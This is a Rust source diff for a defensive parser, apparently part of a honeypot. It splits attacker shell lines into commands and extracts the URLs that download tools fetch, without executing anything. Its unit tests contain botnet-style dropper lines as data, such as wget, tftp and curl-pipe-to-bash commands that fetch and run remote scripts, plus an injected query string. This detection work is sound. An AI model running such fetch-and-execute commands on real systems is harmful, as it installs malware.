@@ -1,0 +1,556 @@
+//! Just enough shell to see what an attacker ran: split a typed line into single commands and
+//! find the URLs the download tools were asked to fetch. Never executes anything; bounded in
+//! recursion depth and output count so a hostile line cannot blow up memory or the stack.
+
+use std::borrow::Cow;
+
+/// Nesting limit for `$(…)`, backticks and `sh -c '…'`.
+const MAX_DEPTH: u8 = 4;
+/// At most this many single commands are taken from one line.
+pub const MAX_COMMANDS_PER_LINE: usize = 256;
+/// At most this many URLs are taken from one text.
+const MAX_URLS_PER_TEXT: usize = 32;
+
+/// Calls `out` once per single command in `line`, outermost first.
+pub fn split_commands(line: &str, out: &mut dyn FnMut(&str)) {
+    let mut budget = MAX_COMMANDS_PER_LINE;
+    split_into(line, 0, &mut budget, out);
+}
+
+fn split_into(line: &str, depth: u8, budget: &mut usize, out: &mut dyn FnMut(&str)) {
+    let b = line.as_bytes();
+    let mut start = 0usize;
+    let mut i = 0usize;
+    let (mut single, mut double) = (false, false);
+    let mut inner: Vec<(usize, usize)> = Vec::new();
+    let emit = |s: &str, budget: &mut usize, out: &mut dyn FnMut(&str)| {
+        let s = s.trim_matches(|c: char| c.is_whitespace());
+        let s = s.trim_start_matches(['(', '{']).trim_start();
+        if s.is_empty() || s == "}" || *budget == 0 {
+            return;
+        }
+        *budget -= 1;
+        out(s);
+        if depth < MAX_DEPTH {
+            if let Some(script) = shell_c_script(s) {
+                split_into(&script, depth + 1, budget, out);
+            }
+        }
+    };
+    while i < b.len() {
+        let c = b[i];
+        if single {
+            if c == b'\'' {
+                single = false;
+            }
+            i += 1;
+            continue;
+        }
+        match c {
+            b'\\' => {
+                i += 2;
+                continue;
+            }
+            b'\'' if !double => single = true,
+            b'"' => double = !double,
+            b'$' if b.get(i + 1) == Some(&b'(') => {
+                let close = matching_paren(b, i + 1);
+                inner.push((i + 2, close));
+                i = close + 1;
+                continue;
+            }
+            b'`' => {
+                let close = b[i + 1..]
+                    .iter()
+                    .position(|&x| x == b'`')
+                    .map_or(b.len(), |p| i + 1 + p);
+                inner.push((i + 1, close));
+                i = close + 1;
+                continue;
+            }
+            _ if double => {}
+            b';' | b'\n' | b'\r' | b')' => {
+                emit(&line[start..i], budget, out);
+                start = i + 1;
+            }
+            b'&' | b'|' => {
+                let prev = if i > 0 { b[i - 1] } else { 0 };
+                let next = b.get(i + 1).copied().unwrap_or(0);
+                let redirect = c == b'&' && (prev == b'>' || prev == b'<' || next == b'>');
+                if !redirect {
+                    emit(&line[start..i], budget, out);
+                    let width = if next == c { 2 } else { 1 };
+                    start = i + width;
+                    i += width;
+                    continue;
+                }
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    if start < b.len() {
+        emit(&line[start..], budget, out);
+    }
+    if depth < MAX_DEPTH {
+        for (s, e) in inner {
+            let e = e.min(b.len());
+            if s < e {
+                if let Some(text) = line.get(s..e) {
+                    split_into(text, depth + 1, budget, out);
+                }
+            }
+        }
+    }
+}
+
+/// Index of the `)` closing the `(` at `open`, or the end of the text.
+fn matching_paren(b: &[u8], open: usize) -> usize {
+    let mut depth = 0usize;
+    let (mut single, mut double) = (false, false);
+    let mut i = open;
+    while i < b.len() {
+        let c = b[i];
+        match c {
+            b'\'' if !double => single = !single,
+            b'"' if !single => double = !double,
+            b'\\' if !single => i += 1,
+            b'(' if !single && !double => depth += 1,
+            b')' if !single && !double => {
+                depth = depth.saturating_sub(1);
+                if depth == 0 {
+                    return i;
+                }
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    b.len()
+}
+
+/// The shell words of a single command, quotes removed. Good enough for argument vectors of
+/// download tools; no expansion is performed.
+pub fn words(cmd: &str) -> Vec<Cow<'_, str>> {
+    let mut out = Vec::new();
+    let b = cmd.as_bytes();
+    let mut i = 0;
+    while i < b.len() {
+        while i < b.len() && b[i].is_ascii_whitespace() {
+            i += 1;
+        }
+        if i >= b.len() {
+            break;
+        }
+        let start = i;
+        let mut plain = true;
+        let mut word = String::new();
+        let (mut single, mut double) = (false, false);
+        while i < b.len() {
+            let c = b[i];
+            if single {
+                if c == b'\'' {
+                    single = false;
+                } else {
+                    push_byte(&mut word, cmd, i);
+                }
+            } else if c == b'\'' && !double {
+                single = true;
+                plain = false;
+            } else if c == b'"' {
+                double = !double;
+                plain = false;
+            } else if c == b'\\' && i + 1 < b.len() {
+                plain = false;
+                i += 1;
+                push_byte(&mut word, cmd, i);
+            } else if c.is_ascii_whitespace() && !double {
+                break;
+            } else {
+                push_byte(&mut word, cmd, i);
+            }
+            i += 1;
+        }
+        if plain {
+            out.push(Cow::Borrowed(&cmd[start..i]));
+        } else {
+            out.push(Cow::Owned(word));
+        }
+    }
+    out
+}
+
+/// Appends the character starting at byte `i` (whole UTF-8 sequences only, once each).
+fn push_byte(word: &mut String, s: &str, i: usize) {
+    if s.is_char_boundary(i) {
+        if let Some(ch) = s[i..].chars().next() {
+            word.push(ch);
+        }
+    }
+}
+
+/// The program a command runs: the first word without its directory, past `busybox`,
+/// `sudo`, `nohup` and friends.
+pub fn program<'a>(words: &'a [Cow<'a, str>]) -> (usize, &'a str) {
+    let mut i = 0;
+    while let Some(w) = words.get(i) {
+        let name = w.rsplit('/').next().unwrap_or(w);
+        if matches!(
+            name,
+            "busybox" | "sudo" | "nohup" | "exec" | "command" | "env" | "timeout" | "nice"
+        ) && i + 1 < words.len()
+        {
+            i += 1;
+            // `timeout 30 wget …`, `nice -n 19 …`: skip the numeric or option arguments.
+            while words
+                .get(i)
+                .is_some_and(|w| w.starts_with('-') || w.bytes().all(|b| b.is_ascii_digit()))
+                && i + 1 < words.len()
+            {
+                i += 1;
+            }
+            continue;
+        }
+        return (i, name);
+    }
+    (0, "")
+}
+
+/// The script of `sh -c '…'`, `bash -c …`, `eval …`, when the command is one.
+fn shell_c_script(cmd: &str) -> Option<String> {
+    let first = cmd.split_ascii_whitespace().next()?;
+    let first = first.rsplit('/').next().unwrap_or(first);
+    if !matches!(
+        first,
+        "sh" | "bash" | "ash" | "dash" | "zsh" | "ksh" | "busybox" | "sudo" | "eval" | "nohup"
+    ) {
+        return None;
+    }
+    let w = words(cmd);
+    let (p, name) = program(&w);
+    if name == "eval" {
+        let rest: Vec<&str> = w[p + 1..].iter().map(|c| c.as_ref()).collect();
+        return (!rest.is_empty()).then(|| rest.join(" "));
+    }
+    if !matches!(name, "sh" | "bash" | "ash" | "dash" | "zsh" | "ksh") {
+        return None;
+    }
+    let mut i = p + 1;
+    while let Some(arg) = w.get(i) {
+        if arg.starts_with('-') && !arg.starts_with("--") && arg.contains('c') {
+            return w.get(i + 1).map(|s| s.to_string());
+        }
+        if !arg.starts_with('-') {
+            return None;
+        }
+        i += 1;
+    }
+    None
+}
+
+/// Calls `out` with every URL a download command (`wget`, `curl`, `tftp`, `ftpget`, also via
+/// `busybox`) was asked to fetch. Scheme-less targets get `http://` (wget's and curl's default).
+pub fn download_urls(cmd: &str, out: &mut dyn FnMut(&str)) {
+    let first = cmd.split_ascii_whitespace().next().unwrap_or("");
+    let first = first.rsplit('/').next().unwrap_or(first);
+    if !matches!(
+        first,
+        "wget" | "curl" | "tftp" | "ftpget" | "busybox" | "sudo" | "nohup" | "timeout" | "env"
+    ) {
+        return;
+    }
+    let w = words(cmd);
+    let (p, name) = program(&w);
+    let args = &w[(p + 1).min(w.len())..];
+    match name {
+        "wget" | "curl" => {
+            let takes_value: &[&str] = if name == "wget" {
+                &[
+                    "-O", "-o", "-P", "-a", "-U", "-e", "-t", "-T", "-i", "-Y",
+                ]
+            } else {
+                &[
+                    "-o", "-H", "-A", "-d", "-u", "-x", "-e", "-X", "-T", "-m", "-b", "-c",
+                    "-w", "-F", "-E", "-K", "-r", "-y", "-Y", "-z",
+                ]
+            };
+            let mut skip = false;
+            for a in args {
+                if skip {
+                    skip = false;
+                    continue;
+                }
+                if a.contains("://") {
+                    emit_url(a, out);
+                } else if let Some(long) = a.strip_prefix("--") {
+                    skip = !long.contains('=')
+                        && matches!(
+                            long,
+                            "output-document" | "output" | "user-agent" | "header" | "data"
+                                | "user" | "proxy" | "referer" | "request" | "upload-file"
+                                | "max-time" | "connect-timeout" | "directory-prefix"
+                                | "tries" | "timeout" | "cookie" | "retry"
+                        );
+                } else if a.starts_with('-') && a.len() > 1 {
+                    let last = &a[a.len() - 1..];
+                    skip = takes_value.iter().any(|t| &t[1..] == last);
+                } else if looks_like_host_path(a) {
+                    out(&format!("http://{a}"));
+                }
+            }
+        }
+        "tftp" => {
+            let (mut host, mut file): (Option<&str>, Option<&str>) = (None, None);
+            let mut i = 0;
+            while i < args.len() {
+                let a = args[i].as_ref();
+                match a {
+                    "-r" | "-c" => {
+                        // `-c get FILE` or `-r FILE`
+                        let mut j = i + 1;
+                        if a == "-c" && args.get(j).is_some_and(|x| x == "get" || x == "put") {
+                            j += 1;
+                        }
+                        file = args.get(j).map(|x| x.as_ref());
+                        i = j + 1;
+                        continue;
+                    }
+                    "-l" | "-b" | "-m" => i += 1,
+                    _ if a.starts_with('-') => {}
+                    _ if host.is_none() => host = Some(a),
+                    _ if a.bytes().all(|b| b.is_ascii_digit()) => {}
+                    _ if file.is_none() => file = Some(a),
+                    _ => {}
+                }
+                i += 1;
+            }
+            if let Some(h) = host {
+                out(&format!(
+                    "tftp://{h}/{}",
+                    file.unwrap_or("").trim_start_matches('/')
+                ));
+            }
+        }
+        "ftpget" => {
+            let mut pos: Vec<&str> = Vec::new();
+            let mut i = 0;
+            while i < args.len() {
+                let a = args[i].as_ref();
+                if matches!(a, "-u" | "-p" | "-P") {
+                    i += 2;
+                    continue;
+                }
+                if !a.starts_with('-') {
+                    pos.push(a);
+                }
+                i += 1;
+            }
+            if let Some(h) = pos.first() {
+                let remote = pos.last().filter(|_| pos.len() > 1).copied().unwrap_or("");
+                out(&format!("ftp://{h}/{}", remote.trim_start_matches('/')));
+            }
+        }
+        _ => {}
+    }
+}
+
+fn looks_like_host_path(a: &str) -> bool {
+    let host = a.split('/').next().unwrap_or("");
+    let host = host.split(':').next().unwrap_or("");
+    host.contains('.')
+        && host
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')
+        && host.bytes().next().is_some_and(|b| b.is_ascii_alphanumeric())
+        && !host.ends_with(".sh")
+}
+
+fn emit_url(raw: &str, out: &mut dyn FnMut(&str)) {
+    let mut found = false;
+    urls_in_text(raw, &mut |u| {
+        found = true;
+        out(u)
+    });
+    if !found {
+        out(raw);
+    }
+}
+
+/// Calls `out` with each `http://`, `https://`, `ftp://` or `tftp://` URL found in free text
+/// (an HTTP body, a query string, an injected command), up to a bound.
+pub fn urls_in_text(text: &str, out: &mut dyn FnMut(&str)) {
+    let b = text.as_bytes();
+    let mut count = 0;
+    let mut from = 0;
+    while let Some(pos) = text[from..].find("://") {
+        let sep = from + pos;
+        let mut s = sep;
+        while s > 0 && b[s - 1].is_ascii_alphabetic() && sep - s < 5 {
+            s -= 1;
+        }
+        let scheme = &text[s..sep];
+        let mut e = sep + 3;
+        while e < b.len() && !is_url_terminator(b[e]) {
+            e += 1;
+        }
+        from = e.max(sep + 3);
+        let known = ["http", "https", "ftp", "tftp"]
+            .iter()
+            .any(|k| scheme.eq_ignore_ascii_case(k));
+        if known && e > sep + 3 {
+            out(&text[s..e]);
+            count += 1;
+            if count >= MAX_URLS_PER_TEXT {
+                return;
+            }
+        }
+        if from >= text.len() {
+            return;
+        }
+    }
+}
+
+fn is_url_terminator(c: u8) -> bool {
+    c.is_ascii_whitespace()
+        || matches!(
+            c,
+            b'"' | b'\'' | b'`' | b';' | b'|' | b'<' | b'>' | b')' | b'(' | b'{' | b'}' | b'\\' | b','
+        )
+}
+
+/// Percent-decodes `s` (and `+` as space when asked), replacing invalid UTF-8.
+pub fn percent_decode(s: &str, plus_as_space: bool) -> Cow<'_, str> {
+    if !s.contains('%') && !(plus_as_space && s.contains('+')) {
+        return Cow::Borrowed(s);
+    }
+    let b = s.as_bytes();
+    let mut out = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while i < b.len() {
+        match b[i] {
+            b'%' if i + 2 < b.len() => {
+                match (hex(b[i + 1]), hex(b[i + 2])) {
+                    (Some(h), Some(l)) => {
+                        out.push(h * 16 + l);
+                        i += 3;
+                        continue;
+                    }
+                    _ => out.push(b'%'),
+                }
+            }
+            b'+' if plus_as_space => out.push(b' '),
+            c => out.push(c),
+        }
+        i += 1;
+    }
+    Cow::Owned(String::from_utf8_lossy(&out).into_owned())
+}
+
+fn hex(c: u8) -> Option<u8> {
+    match c {
+        b'0'..=b'9' => Some(c - b'0'),
+        b'a'..=b'f' => Some(c - b'a' + 10),
+        b'A'..=b'F' => Some(c - b'A' + 10),
+        _ => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn split(line: &str) -> Vec<String> {
+        let mut v = Vec::new();
+        split_commands(line, &mut |c| v.push(c.to_string()));
+        v
+    }
+
+    fn urls(cmd: &str) -> Vec<String> {
+        let mut v = Vec::new();
+        split_commands(cmd, &mut |c| download_urls(c, &mut |u| v.push(u.to_string())));
+        v
+    }
+
+    #[test]
+    fn splits_on_every_separator() {
+        assert_eq!(
+            split("cd /tmp; wget http://x/bins.sh && chmod 777 bins.sh || sh bins.sh | tee o & id"),
+            [
+                "cd /tmp",
+                "wget http://x/bins.sh",
+                "chmod 777 bins.sh",
+                "sh bins.sh",
+                "tee o",
+                "id"
+            ]
+        );
+        assert_eq!(split("echo 'a;b' \"c|d\""), ["echo 'a;b' \"c|d\""]);
+        assert_eq!(split("ls 2>&1 >/dev/null"), ["ls 2>&1 >/dev/null"]);
+        assert_eq!(split("\n;;  \n"), Vec::<String>::new());
+    }
+
+    #[test]
+    fn splits_substitutions_and_sh_c() {
+        assert_eq!(split("echo $(uname -a; id)"), ["echo $(uname -a; id)", "uname -a", "id"]);
+        assert_eq!(split("echo `whoami`"), ["echo `whoami`", "whoami"]);
+        assert_eq!(
+            split("sh -c 'cd /tmp && wget http://h/a'"),
+            ["sh -c 'cd /tmp && wget http://h/a'", "cd /tmp", "wget http://h/a"]
+        );
+        assert_eq!(
+            split("/bin/busybox sh -c \"nproc\""),
+            ["/bin/busybox sh -c \"nproc\"", "nproc"]
+        );
+        assert_eq!(split("(cd /tmp; id)"), ["cd /tmp", "id"]);
+    }
+
+    #[test]
+    fn hostile_lines_stay_bounded() {
+        let deep = "sh -c '".repeat(100) + "id";
+        assert!(split(&deep).len() <= MAX_COMMANDS_PER_LINE);
+        let many = "id;".repeat(10_000);
+        assert_eq!(split(&many).len(), MAX_COMMANDS_PER_LINE);
+        let parens = "$(".repeat(1000);
+        let _ = split(&parens);
+        let _ = split("`");
+        let _ = split("\\");
+        let _ = split("é;ü'ö");
+    }
+
+    #[test]
+    fn download_urls_from_tools() {
+        assert_eq!(urls("wget http://1.2.3.4/bins.sh"), ["http://1.2.3.4/bins.sh"]);
+        assert_eq!(urls("wget -q -O - 1.2.3.4/x.sh"), ["http://1.2.3.4/x.sh"]);
+        assert_eq!(urls("curl -s -o /tmp/x -A ua https://e.com/m"), ["https://e.com/m"]);
+        assert_eq!(
+            urls("/bin/busybox wget http://h/mips; busybox tftp -g -r mips 5.6.7.8"),
+            ["http://h/mips", "tftp://5.6.7.8/mips"]
+        );
+        assert_eq!(urls("tftp 5.6.7.8 -c get t8.sh"), ["tftp://5.6.7.8/t8.sh"]);
+        assert_eq!(
+            urls("ftpget -v -u anonymous -p x 9.9.9.9 f.sh f.sh"),
+            ["ftp://9.9.9.9/f.sh"]
+        );
+        assert_eq!(urls("curl -fsSL 'http://a.b/c'|bash"), ["http://a.b/c"]);
+        assert_eq!(urls("echo wget http://x/y"), Vec::<String>::new());
+        assert!(urls("wget -O").is_empty());
+    }
+
+    #[test]
+    fn urls_in_free_text() {
+        let mut v = Vec::new();
+        urls_in_text(
+            "cmd=cd /tmp;wget http://6.6.6.6/a.sh;sh a.sh&x=HTTPS://e.org/p?q=1 ftp:// zz://q",
+            &mut |u| v.push(u.to_string()),
+        );
+        assert_eq!(v, ["http://6.6.6.6/a.sh", "HTTPS://e.org/p?q=1"]);
+    }
+
+    #[test]
+    fn percent_decoding() {
+        assert_eq!(percent_decode("a%20b+c", true), "a b c");
+        assert_eq!(percent_decode("a%2", false), "a%2");
+        assert_eq!(percent_decode("%zz%41", false), "%zzA");
+        assert_eq!(percent_decode("%ff", false), "\u{fffd}");
+    }
+}
